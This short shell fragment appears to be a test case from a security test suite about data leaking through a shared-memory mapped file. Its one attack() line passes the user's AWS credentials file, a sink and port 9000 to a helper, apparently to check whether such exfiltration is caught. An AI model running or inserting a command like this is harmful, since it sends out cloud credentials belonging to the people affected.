# SPDX-License-Identifier: Apache-2.0
TITLE="write() to a file that the sender has had mapped all along"
attack() { "$PROVOKE/shm" written "$HOME/.aws/credentials" "$SINK4" 9000; }
